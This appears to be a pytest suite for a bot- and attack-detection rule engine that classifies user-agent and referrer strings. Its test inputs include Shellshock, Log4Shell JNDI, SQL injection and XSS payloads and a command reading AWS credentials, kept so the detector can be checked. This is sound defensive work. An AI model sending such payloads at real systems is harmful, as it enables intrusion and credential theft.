from __future__ import annotations

from collections.abc import Iterable

import pytest

from rules.heuristics.agents import PERSON, agent_text
from rules.heuristics.benign import referrers, user_agents
from rules.heuristics.crawlers import LEFT_OUT, LOWERED, installed_crawlers
from rules.heuristics.entries import PatternField
from rules.heuristics.evidence import Sign, grouped_evidence, verdict_of
from rules.heuristics.patterns import load_packs
from rules.heuristics.search_pages import referrer_text

SHIPPED = load_packs(())


def verdict(field: PatternField, text: str) -> str:
    infos = [SHIPPED.info(pattern) for pattern in SHIPPED.match_field(field, text)]
    return verdict_of(
        grouped_evidence(Sign(i.id, i.version, i.weight, i.group, i.reason) for i in infos if not i.shadow)
    )


def flagged(field: PatternField, texts: Iterable[str]) -> dict[str, tuple[str, tuple[str, ...]]]:
    found = {text: (verdict(field, text), SHIPPED.match_field(field, text)) for text in texts}
    return {text: one for text, one in found.items() if one[0] != "allow"}


def test_no_user_agent_of_people_is_slowed_down_or_blocked_and_hardly_any_is_reviewed() -> None:
    texts = user_agents.texts()
    assert len(texts) >= 3_000
    assert len(texts) == len(set(texts))
    found = flagged("user_agent", texts)
    assert {text: one for text, one in found.items() if one[0] != "review"} == {}
    assert len(found) <= 0.001 * len(texts), found


@pytest.mark.parametrize("name", ["Zorblax", "data-hound", "Tern"])
@pytest.mark.parametrize(
    "shape",
    [
        "{}Bot/1.0 (+https://example.org/bot)",
        "python-{}/1.2",
        "{}-crawler",
        "{} Link Checker",
        "{}bot (Android 10; K)",
        "Mozilla/5.0 (compatible; {}-Spider/2.0; +https://example.org)",
        "Mozilla/5.0 (compatible; {}/1.0; a@example.org)",
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) Chrome/41 (compatible; {}bot/2.1; +http://example.org)",
        "Mozilla/5.0 (Linux; Android 10; compatible; {}bot) AppleWebKit/537.36",
        "Lynx/2.9 ({}bot)",
    ],
)
def test_robots_that_no_list_has_stay_flagged(shape: str, name: str) -> None:
    assert verdict("user_agent", shape.format(name)) != "allow"


@pytest.mark.parametrize("agent", ["Zorblax/2.0", "Calibre/6.13", "Servo/0.0.1"])
def test_a_name_and_a_version_alone_is_a_hint_and_no_verdict(agent: str) -> None:
    assert verdict("user_agent", agent) == "allow"
    assert "user-agents/no-browser" in SHIPPED.match_field("user_agent", agent)


@pytest.mark.parametrize(
    ("sent", "seen"),
    [
        (
            "Mozilla/5.0 (Linux; Android 11; Robot R1 Build/S1RSS32.1-1; wv) AppleWebKit/537.36",
            "Mozilla/5.0 (Linux; Android 11; wv) AppleWebKit/537.36",
        ),
        (
            "Mozilla/5.0 (Linux; Android 12; moto g(50)) AppleWebKit/537.36",
            "Mozilla/5.0 (Linux; Android 12;) AppleWebKit/537.36",
        ),
        ("w3m/0.5.3", PERSON + "w3m/0.5.3"),
        ("Overcast/3.0 (+http://overcast.fm/; iOS podcast app)", PERSON + "Overcast/3.0 (; iOS podcast app)"),
        ("Mozilla/5.0 (compatible; iCab 3.0.5; Mac)", "Mozilla/5.0 (iCab 3.0.5; Mac)"),
        ("ExampleBot/1.0", "ExampleBot/1.0"),
    ],
)
def test_devices_are_left_out_and_people_are_marked(sent: str, seen: str) -> None:
    assert agent_text(sent) == seen


@pytest.mark.parametrize(
    "attack", ["cat /root/.aws/credentials", "() { :;}; id", "${jndi:ldap://a.example/x}", "' or 1=1--"]
)
@pytest.mark.parametrize(
    "shape", ["{}", "Lynx/2.9 {}", "Lynx/2.9 ({})", "Mozilla/5.0 (Linux; Android 10; {}) Chrome/120", "VLC/{}"]
)
def test_what_an_attack_needs_is_never_left_out(shape: str, attack: str) -> None:
    assert attack in agent_text(shape.format(attack))


def test_what_is_left_out_or_lowered_is_in_the_package() -> None:
    known = installed_crawlers().categories
    assert LEFT_OUT.keys() <= known.keys()
    assert LOWERED.keys() <= known.keys()
    assert not LEFT_OUT.keys() & LOWERED.keys()


def test_no_referrer_of_people_is_flagged() -> None:
    texts = referrers.texts()
    assert len(texts) >= 1_000
    assert flagged("referrer", texts) == {}


@pytest.mark.parametrize(
    "referrer",
    [
        "https://example.com/?q=<script>alert(1)</script>",
        "https://example.com/?id=1'+or+1=1--",
        "https://example.com/?id=-1+union+all+select+null,null",
        "https://google.evil.example/?id=1'+union+select+password+from+users",
        "https://www.google.com/search?q=${jndi:ldap://198.51.100.7/a}",
        "https://www.google.com/search?q=%24%7Bjndi:ldap://198.51.100.7/a}",
        "() { :;}; /bin/sh -c id",
        "http://semalt.com/project_crawl.php",
    ],
)
def test_referrers_that_attack_or_advertise_stay_flagged(referrer: str) -> None:
    assert verdict("referrer", referrer) in {"throttle", "block"}


@pytest.mark.parametrize(
    ("referrer", "seen"),
    [
        ("https://duckduckgo.com/?q=union+select", "https://duckduckgo.com/"),
        ("https://www.google.co.uk/search?q=a#b", "https://www.google.co.uk/search"),
        ("https://google.evil.example/?q=A+b", "https://google.evil.example/?q=a b"),
        ("https://shop.example/?q=A+b", "https://shop.example/?q=a b"),
    ],
)
def test_only_search_engines_lose_their_query(referrer: str, seen: str) -> None:
    assert referrer_text(referrer) == seen
